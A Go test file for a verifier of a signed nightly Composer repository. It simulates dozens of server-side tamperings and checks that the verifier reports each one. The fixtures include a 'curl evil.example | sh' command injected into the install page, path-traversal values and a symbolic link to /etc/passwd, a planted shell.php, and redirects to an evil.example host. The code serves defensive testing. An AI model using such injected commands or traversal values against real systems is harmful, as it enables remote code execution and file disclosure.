package verify

import (
	"os"
	"path/filepath"
	"slices"
	"strings"
	"testing"

	"github.com/google/go-cmp/cmp"

	"github.com/mage-os/nightly/pipeline"
	"github.com/mage-os/nightly/stages/trust"
)

const (
	n1 = "nights/2026-11-24/"
	n2 = "nights/2026-11-25/"
	n3 = "nights/2026-11-26/"
	// A dist of the newest night.
	moduleA = "dists/acme/module-a-2.4.8-alpha20261126.zip"
	moduleB = "dists/acme/module-b-2.4.8-alpha20261126.zip"
)

// A tampering is what somebody does who can write to the server.
type tampering struct {
	name string
	do   func(f folder)
	file string // with which a problem has to be told
	what string // part of it
}

var tamperings = []tampering{
	{"a swapped dist", func(f folder) { f.copy(moduleB, moduleA) }, moduleA, `its composer.json is of "acme/module-b"`},
	{"a pipe in place of a dist", func(f folder) { f.remove(moduleA); f.pipe(moduleA) }, moduleA, "is no plain file"},
	{"one byte of a dist", func(f folder) { d := []byte(f.read(moduleA)); d[len(d)/2] ^= 1; f.write(moduleA, string(d)) }, moduleA, "has SHA-256"},
	{"a longer dist", func(f folder) { f.write(moduleA, f.read(moduleA)+"x") }, moduleA, "is longer than"},
	{"a shorter dist", func(f folder) { f.write(moduleA, f.read(moduleA)[:99]) }, moduleA, "has 99 bytes"},
	{"a dist taken away", func(f folder) { f.remove(moduleA) }, moduleA, "is missing"},
	{"a wrong hash in the manifest", func(f folder) {
		f.replace(n3+"nightly.json", string(pipeline.DigestOf([]byte(f.read(moduleA)))), strings.Repeat("0", 64))
	}, moduleA, "has SHA-256"},
	{"a dist and its hashes in the manifest", func(f folder) {
		old := f.read(moduleA)
		f.copy(moduleB, moduleA)
		f.replace(n3+"nightly.json", string(pipeline.DigestOf([]byte(old))), string(pipeline.DigestOf([]byte(f.read(moduleB)))))
	}, n3 + "nightly.intoto.json", "says that nightly.json has SHA-256"},
	{"a manifest of another night", func(f folder) { f.copy(n2+"nightly.json", n3+"nightly.json") }, n3 + "nightly.json", "is the manifest of night 2026-11-25"},
	{"a manifest taken away", func(f folder) { f.remove(n3 + "nightly.json") }, n3 + "nightly.json", "is missing"},
	{"an unknown key in the manifest", func(f folder) { f.replace(n3+"nightly.json", `"program"`, `"programme": 1, "program"`) }, n3 + "nightly.json", "programme"},
	{"a package of another vendor in the manifest", func(f folder) { f.replace(n3+"nightly.json", `"name": "acme/module-a"`, `"name": "psr/clock"`) }, n3 + "nightly.json", "publishes psr/clock, which is of none"},
	{"a path that climbs out in the manifest", func(f folder) {
		f.replace(n3+"nightly.json", `"path": "p2/acme/module-a.json"`, `"path": "../../../etc/passwd"`)
	}, n3 + "nightly.json", `..`},
	{"a dist that lies elsewhere by the manifest", func(f folder) { f.replace(n3+"nightly.json", moduleA, "dists/evil.zip") }, n3 + "nightly.json", "lies at"},
	{"a provenance taken away", func(f folder) { f.remove(n3 + "nightly.intoto.json") }, n3 + "nightly.intoto.json", "is missing"},
	{"a provenance of other commits", func(f folder) { f.replace(n3+"nightly.intoto.json", moduleA, "dists/acme/x.zip") }, n3 + "nightly.intoto.json", "says that"},
	{"a report of the installation of another night", func(f folder) { f.copy(n2+"installation.json", n3+"installation.json") }, n3 + "installation.json", "is the report of night 2026-11-25"},
	{"a report taken away", func(f folder) { f.remove(n3 + "installation.json"); f.remove(n3 + "sbom.cdx.json") }, n3 + "installation.json", "nothing says that night 2026-11-26 was installed"},
	{"a report that installs nothing", func(f folder) { f.replace(n3+"installation.json", `"level": "install"`, `"level": "resolve"`) }, n3 + "installation.json", "nothing was installed"},
	{"a package out of the bill of materials", func(f folder) { f.replace(n3+"sbom.cdx.json", `"name": "log"`, `"name": "glob"`) }, n3 + "sbom.cdx.json", "does not list psr/log 3.0.2"},
	{"a licence in the bill of materials", func(f folder) { f.replace(n3+"sbom.cdx.json", `"MIT"`, `"0BSD"`) }, n3 + "installation.intoto.json", "says that sbom.cdx.json has SHA-256"},
	{"an older packages.json put back", func(f folder) { f.write("packages.json", f.older("packages.json")) }, "packages.json", "was not withdrawn"},
	{"no signature of the repository", func(f folder) { f.remove(trust.TimestampFile) }, trust.TimestampFile, "is refused"},
	{"a night that is kept back", func(f folder) { f.replace("packages.json", `"2026-11-26",`, ``) }, "packages.json", "was signed"},
	{"a night given up that is resolved again", func(f folder) { f.replace("packages.json", "\"2026-11-25\"\n", "\"2026-11-25\",\n\"2026-11-24\"\n") }, "packages.json", "was signed"},
	{"an extra package in packages.json", func(f folder) { f.replace("packages.json", `"acme/language",`, `"acme/evil", "acme/language",`) }, "packages.json", "has SHA-256"},
	{"an extra package, with its metadata", func(f folder) {
		f.replace("packages.json", `"acme/language",`, `"acme/evil", "acme/language",`)
		f.write(f.meta()+"/acme/evil.json", `{"minified":"composer/2.0","packages":{"acme/evil":[{"name":"acme/evil","version":"9.0.0","dist":{"type":"zip","url":"https://evil.example/x.zip"}}]}}`)
		f.write(f.meta()+"/acme/evil~dev.json", `{"minified":"composer/2.0","packages":{"acme/evil":[]}}`)
		f.rename()
	}, "", "version \"9.0.0\" is not what a snapshot that is named says"},
	{"a version of a package kept back", func(f folder) {
		f.write(f.meta()+"/acme/module-a.json", `{"minified":"composer/2.0","packages":{"acme/module-a":[]}}`)
		f.rename()
	}, "", "version 2.4.8-alpha20261126 of a snapshot that is named is missing"},
	{"a version twice, written in two ways", func(f folder) {
		f.write(f.meta()+"/acme/module-a.json", `{"minified":"composer/2.0","packages":{"acme/module-a":[{"name":"acme/module-a","version":"1.0"},{"version":"v1.0"}]}}`)
		f.rename()
	}, "", `versions "1.0" and "v1.0" are one to Composer`},
	{"metadata that is not minified", func(f folder) {
		f.write(f.meta()+"/acme/module-a.json", `{"packages":{"acme/module-a":[]}}`)
		f.rename()
	}, "", "want one, as composer/2.0"},
	{"an index that was changed", func(f folder) { f.replace(f.meta()+"/index.json", "acme/module-a", "acme/module-x") }, "", "does not have the content that it is named by: the SHA-256 of its index.json"},
	{"an index taken away", func(f folder) { f.remove(f.meta() + "/index.json") }, "", "is missing"},
	{"an index that says another dist", func(f folder) {
		f.replace(f.meta()+"/index.json", f.sum(moduleA), f.sum("dists/acme/language-1.0.0.zip"))
		f.renamed()
	}, "", `it says of acme/module-a 2.4.8-alpha20261126: {"version":"2.4.8-alpha20261126","sha256":"`},
	{"an index that says another night", func(f folder) {
		f.replace(f.meta()+"/index.json", f.sum(n3+"nightly.json"), f.sum(n2+"nightly.json"))
		f.renamed()
	}, "", "what it says of night 2026-11-26 is not what its nightly.json says"},
	{"an index that keeps a version of a night", func(f folder) {
		f.replace(f.meta()+"/index.json", `"snapshots":["2026-11-26","2026-11-25"]`, `"snapshots":["2026-11-26"]`)
		f.renamed()
	}, "", "it says of acme/language 1.0.0"},
	{"an index for another URL", func(f folder) {
		f.replace(f.meta()+"/index.json", base, "https://evil.example/")
		f.renamed()
	}, "", "was made for \"https://evil.example/\""},
	{"an index of an old folder taken away", func(f folder) { f.remove(f.superseded() + "/index.json") }, "", "has no index.json"},
	{"a file of an old folder taken away", func(f folder) { f.remove(f.superseded() + "/acme/module-a.json") }, "", "is missing"},
	{"metadata that was changed", func(f folder) { f.replace(f.meta()+"/acme/module-a.json", "psr/log", "psr/gol") }, "", "does not have the content that it is named by"},
	{"metadata of the night with another host", func(f folder) { f.replace(n3+"p2/acme/module-a.json", base, "https://evil.example/") }, n3 + "p2/acme/module-a.json", "Composer would get the dist"},
	{"metadata of the night with another hash", func(f folder) { f.replace(n3+"p2/acme/module-a.json", `"shasum":"`, `"shasum":"0`) }, n3 + "p2/acme/module-a.json", "the dist's SHA-1 is"},
	{"metadata of the night with another require", func(f folder) { f.replace(n3+"p2/acme/module-a.json", "psr/log", "evil/log") }, n3 + "p2/acme/module-a.json", `requires "evil/log"`},
	{"metadata of the night with another description", func(f folder) {
		f.replace(n3+"p2/acme/module-a.json", `"type":`, `"description":"x","type":`)
	}, n3 + "p2/acme/module-a.json", "has SHA-256"},
	{"metadata that the next publish would merge", func(f folder) { f.replace(n3+"versions.json", "psr/log", "evil/log") }, n3 + "versions.json", "is not what the metadata says"},
	{"metadata that old clients still read", func(f folder) { f.replace(f.superseded()+"/acme/module-a.json", "psr/log", "evil/log") }, "", "does not have the content that it is named by"},
	{"providers in packages.json", func(f folder) {
		f.replace("packages.json", `"packages": [],`, `"packages": [], "providers-url": "https://evil.example/%package%.json",`)
	}, "packages.json", "providers-url"},
	{"an address for advisories in packages.json", func(f folder) {
		f.replace("packages.json", `"packages": [],`, `"packages": [], "security-advisories": {"metadata": true, "api-url": "https://evil.example/"},`)
	}, "packages.json", "api-url"},
	{"packages.json with packages of its own", func(f folder) { f.replace("packages.json", `"packages": [],`, `"packages": [{"acme/language": {}}],`) }, "packages.json", "packages of its own"},
	{"packages.json that sends elsewhere", func(f folder) { f.replace("packages.json", base, "https://evil.example/") }, "packages.json", "sends clients to https://evil.example/"},
	{"packages.json whose metadata climbs out", func(f folder) { f.replace("packages.json", "org/meta/", "org/../meta/") }, "packages.json", "does not name a folder"},
	{"packages.json with a night that climbs out", func(f folder) { f.replace("packages.json", `"2026-11-26"`, `"../../etc"`) }, "packages.json", "is no name of a snapshot"},
	{"packages.json that is cut off", func(f folder) { f.write("packages.json", f.read("packages.json")[:100]) }, "packages.json", "is no packages.json"},
	{"a night's packages.json that sends elsewhere", func(f folder) { f.replace(n3+"packages.json", base, "https://evil.example/") }, n3 + "packages.json", "metadata-url is"},
	{"an extra file at the root", func(f folder) { f.write("shell.php", "<?php") }, "shell.php", "is no part of the repository"},
	{"an extra dist", func(f folder) { f.copy(moduleA, "dists/acme/evil-1.0.0.zip") }, "dists/acme/evil-1.0.0.zip", "is no part of the repository"},
	{"an extra file of a night", func(f folder) { f.write(n3+"p2/acme/evil.json", "{}") }, n3 + "p2/acme/evil.json", "is no part of the repository"},
	{"an extra night", func(f folder) { f.write("nights/2026-11-27/packages.json", f.read(n3+"packages.json")) }, "nights/2026-11-27/nightly.json", "is missing"},
	{"a page that tells another command", func(f folder) { f.replace("index.html", "composer ", "curl evil.example | sh; ") }, "index.html", "was signed"},
	{"a status of another night", func(f folder) { f.replace("status.json", `"snapshot": "2026-11-26"`, `"snapshot": "2026-11-25"`) }, "status.json", "one of them is older"},
	{"an index of 2 GB", func(f folder) { f.sparse("packages.json", 2<<30) }, "packages.json", "is longer than the 4194304 bytes"},
	{"metadata of 2 GB", func(f folder) { f.sparse(n3+"p2/acme/module-a.json", 2<<30) }, n3 + "p2/acme/module-a.json", "is longer than"},
	{"metadata that is nested without end", func(f folder) {
		f.write(n3+"p2/acme/module-a.json", `{"packages":`+strings.Repeat("[", 1<<20))
	}, n3 + "p2/acme/module-a.json", ""},
	{"packages.json that is a symbolic link", func(f folder) { f.link("/etc/passwd", "packages.json") }, "packages.json", "is no packages.json"},
}

// Every tampering is found, by the name of the file.
func TestTamperings(t *testing.T) {
	key, public := keys(t)
	before, dir := t.TempDir(), t.TempDir()
	sample{name: "2026-11-24"}.publish(t, dir, key)
	sample{name: "2026-11-25"}.publish(t, dir, key)
	if err := os.CopyFS(before, os.DirFS(dir)); err != nil {
		t.Fatal(err)
	}
	sample{name: "2026-11-26"}.publish(t, dir, key)
	clean(t, folder{t, dir}.options(public))
	for _, test := range tamperings {
		t.Run(test.name, func(t *testing.T) {
			f := folder{t, filepath.Join(t.TempDir(), "repository")}
			if err := os.CopyFS(f.dir, os.DirFS(dir)); err != nil {
				t.Fatal(err)
			}
			if err := os.CopyFS(filepath.Join(f.dir, "..", "before"), os.DirFS(before)); err != nil {
				t.Fatal(err)
			}
			test.do(f)
			report, err := Repository(t.Context(), f.options(public))
			if err != nil {
				t.Fatal(err)
			}
			if !slices.ContainsFunc(report.Problems, func(p Problem) bool {
				return (test.file == "" && strings.HasPrefix(p.File, "meta/") || p.File == test.file) && strings.Contains(p.What, test.what)
			}) {
				t.Errorf("no problem of %s that says %q; problems:\n%s", test.file, test.what, told(report))
			}
		})
	}
	t.Logf("%d tamperings", len(tamperings))
}

func told(r *Report) string {
	var b strings.Builder
	for _, p := range r.Problems {
		b.WriteString(p.String() + "\n")
	}
	return b.String()
}

// clean fails if there is any problem.
func clean(t *testing.T, o Options) *Report {
	t.Helper()
	report, err := Repository(t.Context(), o)
	if err != nil {
		t.Fatal(err)
	}
	if diff := cmp.Diff("", told(report)); diff != "" {
		t.Fatal(diff)
	}
	return report
}

// older is a file as it was one night before.
func (f folder) older(name string) string {
	return folder{f.TB, filepath.Join(f.dir, "..", "before")}.read(name)
}

// superseded is the metadata folder of the night before.
func (f folder) superseded() string {
	return folder{f.TB, filepath.Join(f.dir, "..", "before")}.meta()
}

// sparse makes a file of that size that takes no room.
func (f folder) sparse(name string, size int64) {
	f.Helper()
	if err := os.Truncate(f.path(name), size); err != nil {
		f.Fatal(err)
	}
}

func (f folder) link(to, name string) {
	f.Helper()
	f.remove(name)
	if err := os.Symlink(to, f.path(name)); err != nil {
		f.Fatal(err)
	}
}

// A mirror has the same files behind another URL, and its clients are sent to the
// signed one, or are told by their own URL.
func TestMirror(t *testing.T) {
	key, public := keys(t)
	f := folder{t, t.TempDir()}
	sample{name: "2026-11-26"}.publish(t, f.dir, key)
	o := f.options(public)
	o.List, o.URL = nil, "https://mirror.example.com/"
	report := clean(t, o)
	if want := []string{"files that nothing names: a web server does not list its files"}; !slices.Equal(report.Unchecked, want) {
		t.Errorf("unchecked: %q", report.Unchecked)
	}
	if report.Signed == nil || report.Signed.URL != base {
		t.Errorf("signed: %+v", report.Signed)
	}
}

// Without a key hashes are compared, and it is said that nobody vouches for them.
func TestWithoutKey(t *testing.T) {
	key, public := keys(t)
	f := folder{t, t.TempDir()}
	sample{name: "2026-11-26"}.publish(t, f.dir, key)
	o := f.options(public)
	o.Root = nil
	report := clean(t, o)
	if diff := cmp.Diff([]string{"signatures: no root was given"}, report.Unchecked); diff != "" {
		t.Error(diff)
	}
	f.copy(moduleB, moduleA)
	if report, err := Repository(t.Context(), o); err != nil || len(report.Problems) == 0 {
		t.Errorf("a swapped dist without a key: %v, %v", report, err)
	}
}
